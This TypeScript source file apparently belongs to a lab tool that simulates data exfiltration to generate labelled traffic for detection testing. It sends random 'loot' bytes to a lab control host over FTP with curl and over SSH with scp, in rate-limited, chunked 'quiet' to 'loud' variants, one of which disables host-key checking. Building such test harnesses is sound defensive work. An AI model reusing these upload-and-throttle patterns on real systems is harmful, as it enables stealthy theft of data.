import { join } from 'node:path';
import type { Attack, Intensity, Service } from '../contracts.ts';
import type { Lab, LabHost } from '../lab.ts';
import { isOpen, place } from '../services/daemon.ts';
import { ftpServer } from '../services/ftp-server.ts';
import { account } from '../services/own-folder.ts';
import { personalKey, sshServer } from '../services/ssh-server.ts';
import { curl, inParts } from './errands.ts';

type Plan = { readonly parts: number; readonly bytes: number; readonly bytesPerSecond: number };

/** Buffers swallow small files whole, whatever the rate: what is quiet comes in parts. */
const plans: Readonly<Record<Intensity, Plan>> = {
  quiet: { parts: 10, bytes: 24_000, bytesPerSecond: 20_000 },
  medium: { parts: 2, bytes: 600_000, bytesPerSecond: 60_000 },
  loud: { parts: 1, bytes: 3_000_000, bytesPerSecond: 400_000 },
};
const ftpPort = 21;
const passivePorts = { first: 40_000, count: 1000 } as const;
const sshPort = 22;
const bitsPerByte = 8;
const bitsPerKilobit = 1000;

async function ensure(service: Service, lab: Lab, host: LabHost, port: number): Promise<void> {
  if (!isOpen(host, { tcp: port })) await service.start(lab, host);
}

export const exfiltrationByFtp: Attack = {
  kind: 'ftp-exfiltration',
  summary: 'files go out over FTP, in the clear',
  needs: ['curl', ...ftpServer.needs],
  intensities: ['quiet', 'medium', 'loud'],
  actor: 'desktop',
  targets: ['control'],
  async run(order) {
    const { lab, actor, targets, intensity, random, seconds, signal } = order;
    const control = targets[0] ?? lab.host('control');
    await ensure(ftpServer, lab, control, ftpPort);
    const { parts, bytes, bytesPerSecond } = plans[intensity];
    const loot = place(actor, 'loot', 'ftp.bin', random.bytes(bytes));
    const where = `ftp://${account.user}:${account.password}@${control.address}/files/loot.bin`;
    const words = ['-T', loot, '--limit-rate', String(bytesPerSecond), where];
    await inParts(order, parts, () => curl(actor, words, { signal, seconds }));
    const data = Array.from({ length: passivePorts.count }, (_, index) => passivePorts.first + index);
    return {
      tool: 'curl',
      arguments: `${parts} times: ${words.join(' ')}`,
      claims: [
        {
          actors: [actor.address],
          targets: [control.address],
          protocol: 'tcp',
          targetPorts: [ftpPort, ...data],
        },
      ],
    };
  },
};

export const exfiltrationBySsh: Attack = {
  kind: 'ssh-exfiltration',
  summary: 'files go out over SSH',
  needs: ['scp', ...sshServer.needs],
  intensities: ['quiet', 'medium', 'loud'],
  actor: 'laptop',
  targets: ['control'],
  async run(order) {
    const { lab, actor, targets, intensity, random, seconds, signal } = order;
    const control = targets[0] ?? lab.host('control');
    await ensure(sshServer, lab, control, sshPort);
    const { parts, bytes, bytesPerSecond } = plans[intensity];
    const loot = place(actor, 'loot', 'ssh.bin', random.bytes(bytes));
    const words = [
      '-q',
      '-B',
      '-l',
      String(Math.round((bytesPerSecond * bitsPerByte) / bitsPerKilobit)),
      '-i',
      personalKey(lab),
      '-F',
      'none',
      '-o',
      'StrictHostKeyChecking=no',
      '-o',
      `UserKnownHostsFile=${join(actor.folder, 'hosts-of-thieves')}`,
      loot,
      `${account.user}@${control.address}:loot.bin`,
    ];
    await inParts(order, parts, () => actor.machine.attempt('scp', words, { signal, seconds }));
    return {
      tool: 'scp',
      arguments: `${parts} times: ${words.join(' ')}`,
      claims: [
        { actors: [actor.address], targets: [control.address], protocol: 'tcp', targetPorts: [sshPort] },
      ],
    };
  },
};
